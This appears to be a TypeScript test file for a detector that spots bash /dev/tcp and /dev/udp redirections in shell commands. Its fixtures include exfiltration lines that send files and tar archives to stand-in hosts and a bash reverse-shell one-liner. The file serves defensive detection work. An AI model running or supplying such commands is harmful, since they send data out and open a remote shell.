import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readDeviceRedirect } from './shell-redirect.ts';

describe('a redirection to a network device', () => {
  it.each([
    ['cat /tmp/a.enc > /dev/tcp/203.0.113.9/443', 'upload', '203.0.113.9', 443],
    ['tar cz /d >/dev/tcp/drop.example/8443', 'upload', 'drop.example', 8443],
    ['cat a >> "/dev/tcp/203.0.113.9/80"', 'upload', '203.0.113.9', 80],
    ['echo x > /dev/udp/192.0.2.1/53', 'upload', '192.0.2.1', 53],
    ['exec 3<>/dev/tcp/drop.example/80; cat a >&3', 'both', 'drop.example', 80],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'both', '203.0.113.9', 443],
    ['cat < /dev/tcp/203.0.113.9/443', 'download', '203.0.113.9', 443],
    ['cat f >/dev/tcp/$HOST/$PORT', 'upload', undefined, undefined],
  ])('%s is %s', (text, direction, host, port) => {
    const found = readDeviceRedirect(text);
    expect([found?.direction, found?.target?.host, found?.target?.port]).toEqual([direction, host, port]);
  });

  it.each([
    'echo "> /dev/tcp/203.0.113.9/443"',
    "grep '>/dev/tcp/a/1' script.sh",
    'ls /dev/tcp/203.0.113.9/443',
    'cat a > /dev/null',
    'cat a > /dev/tcp',
    '',
  ])('is not in %s', (text) => {
    expect(readDeviceRedirect(text)).toBeUndefined();
  });

  it('is looked for in every text without an error', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('/dev/tcp/', '>', '<', '"', "'", '\\', 'a/1', ' ', '&', '$')),
        (parts) => {
          expect(['both', 'upload', 'download', undefined]).toContain(
            readDeviceRedirect(parts.join(''))?.direction,
          );
        },
      ),
    );
  });
});
